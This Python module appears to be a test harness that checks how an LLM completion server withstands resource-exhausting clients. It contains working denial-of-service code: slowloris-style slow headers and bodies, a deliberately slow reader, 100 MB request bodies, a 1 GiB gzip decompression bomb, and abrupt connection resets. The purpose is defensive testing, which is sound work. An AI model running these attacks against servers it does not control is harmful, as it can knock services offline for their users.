"""Clients that hold or waste a server's resources: what they do, and what the server answers."""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import socket
import struct
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

BODY_BYTES = 100 << 20
"""Of a body that is too large."""
BOMB_BYTES = 1 << 30
"""Of a compressed body, once it is decompressed: zeros."""
CHUNK_BYTES = 1 << 16
BYTE_INTERVAL_S = 1.0
"""Between two bytes of a slow client."""
RECEIVE_BUFFER_BYTES = 1 << 12
MAX_ABORT_S = 0.3
"""A request that is aborted is so after a random time up to this."""


@dataclass(frozen=True, kw_only=True)
class Target:
    """A server, and how much is done to it."""

    url: str
    key: str = ""
    model: str = ""
    connections: int = 100
    """At a time; of large bodies and bombs, at most ``MAX_BODIES``."""
    seconds: float = 20.0
    seed: int = 0

    def head(self, length: int | None, *extra: str) -> bytes:
        """Of a completion; chunked without a ``length``."""
        parts = urlsplit(self.url)
        lines = [f"POST {parts.path.rstrip('/')}/v1/completions HTTP/1.1", f"Host: {parts.netloc}"]
        lines += ["Content-Type: application/json", *extra]
        lines += [f"Authorization: Bearer {self.key}"] if self.key else []
        lines += ["Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"]
        return "\r\n".join([*lines, "", ""]).encode()

    def completion(self, max_tokens: int) -> bytes:
        """A request for a streamed completion."""
        body = json.dumps(
            {
                "model": self.model,
                "prompt": [1, 2, 3],
                "max_tokens": max_tokens,
                "temperature": 0,
                "ignore_eos": True,
                "stream": True,
                "return_token_ids": True,
            }
        ).encode()
        return self.head(len(body)) + body

    @contextlib.asynccontextmanager
    async def connect(
        self, receive_buffer: int = 0
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """A connection, which is aborted at the end."""
        parts = urlsplit(self.url)
        connection = socket.socket()
        connection.setblocking(False)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            address = (parts.hostname or "127.0.0.1", parts.port or 80)
            await asyncio.get_running_loop().sock_connect(connection, address)
        except BaseException:
            connection.close()
            raise
        limit = max(1, receive_buffer // 2) if receive_buffer else CHUNK_BYTES
        reader, writer = await asyncio.open_connection(sock=connection, limit=limit)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()
            with contextlib.suppress(OSError):
                await writer.wait_closed()


MAX_BODIES = 4
"""Large bodies at a time: the load is the server's to bear, not this machine's loopback."""
Attack = Callable[[Target, int], Awaitable[str]]
"""One connection, by its number. Returns what became of it: ``status 413``, ``closed``, ``open``
or ``refused``."""


async def _outcome(reader: asyncio.StreamReader) -> str:
    """What the server does: its status, or the end of the connection."""
    try:
        line = await reader.readline()
    except (OSError, ValueError):
        return "closed"
    words = line.split(b" ", 2)
    return f"status {words[1].decode()}" if len(words) > 1 else "closed"


async def _idle(target: Target, number: int) -> str:
    async with target.connect() as (reader, _):
        return await _outcome(reader)


async def _send_slowly(target: Target, fast: bytes, slow: bytes) -> str:
    async with target.connect() as (reader, writer):
        outcome = asyncio.ensure_future(_outcome(reader))
        try:
            writer.write(fast)
            for byte in slow:
                writer.write(bytes([byte]))
                await asyncio.wait([outcome], timeout=BYTE_INTERVAL_S)
                if outcome.done() or writer.is_closing():
                    break
            return await outcome
        finally:
            outcome.cancel()


async def _slow_head(target: Target, number: int) -> str:
    return await _send_slowly(target, b"", target.head(10, "X-Slow: " + "x" * 10_000))


async def _slow_body(target: Target, number: int) -> str:
    return await _send_slowly(target, target.head(10_000), b"{" + b" " * 9_999)


async def _slow_reader(target: Target, number: int) -> str:
    async with target.connect(RECEIVE_BUFFER_BYTES) as (reader, writer):
        writer.write(target.completion(100_000))
        line = b""
        while byte := await reader.read(1):
            line += byte
            if line.endswith(b"\n") and not line.startswith(b"HTTP/1.1 200"):
                return await _first_line(line)
            await asyncio.sleep(BYTE_INTERVAL_S)
        return "closed"


async def _first_line(line: bytes) -> str:
    reader = asyncio.StreamReader()
    reader.feed_data(line)
    reader.feed_eof()
    return await _outcome(reader)


async def _large_body(target: Target, number: int) -> str:
    is_chunked = number % 2 == 1
    async with target.connect() as (reader, writer):
        outcome = asyncio.ensure_future(_outcome(reader))
        try:
            writer.write(target.head(None if is_chunked else BODY_BYTES))
            chunk = b" " * CHUNK_BYTES
            frame = b"%x\r\n%s\r\n" % (len(chunk), chunk) if is_chunked else chunk
            with contextlib.suppress(OSError):
                for _ in range(BODY_BYTES // CHUNK_BYTES):
                    writer.write(frame)
                    await writer.drain()
                    if outcome.done():
                        break
            return await outcome
        finally:
            outcome.cancel()


def _bomb() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip's header
    zeros = bytes(1 << 20)
    chunks = [compressor.compress(zeros) for _ in range(BOMB_BYTES >> 20)]
    return b"".join([*chunks, compressor.flush()])


_bombs: list[bytes] = []
"""Made once: it takes seconds."""


async def _gzip_bomb(target: Target, number: int) -> str:
    if not _bombs:
        _bombs.append(_bomb())
    async with target.connect() as (reader, writer):
        writer.write(target.head(len(_bombs[0]), "Content-Encoding: gzip") + _bombs[0])
        return await _outcome(reader)


async def _abort(target: Target, number: int) -> str:
    rng = random.Random(f"{target.seed} {number}")
    async with target.connect() as (reader, writer):
        writer.write(target.completion(200))
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(rng.uniform(0.0, MAX_ABORT_S)):
                outcome = await _outcome(reader)
                if outcome != "status 200":
                    return outcome
                await asyncio.sleep(MAX_ABORT_S)
        # A reset in place of an orderly end.
        connection = writer.get_extra_info("socket")
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return "aborted"


ATTACKS: dict[str, Attack] = {
    "idle": _idle,
    "slow-head": _slow_head,
    "slow-body": _slow_body,
    "slow-reader": _slow_reader,
    "large-body": _large_body,
    "gzip-bomb": _gzip_bomb,
    "abort": _abort,
}
"""Name → what one connection does."""
REPEATED = {"large-body", "gzip-bomb", "abort"}
"""Attacks whose connections end by themselves: others follow until the time is over."""


async def attack(target: Target, name: str) -> Counter[str]:
    """Runs one attack for ``target.seconds``; returns how its connections ended."""
    outcomes: Counter[str] = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds

    async def client(number: int) -> None:
        while True:
            try:
                async with asyncio.timeout_at(deadline):
                    outcome = await ATTACKS[name](target, number)
            except TimeoutError:
                outcome = "open"
            except OSError:
                outcome = "refused"
                await asyncio.sleep(0.1)
            outcomes[outcome] += 1
            if name not in REPEATED or asyncio.get_running_loop().time() >= deadline:
                return
            number += target.connections

    count = target.connections
    if name in ("large-body", "gzip-bomb"):
        count = min(count, MAX_BODIES)
    await asyncio.gather(*(client(number) for number in range(count)))
    return outcomes
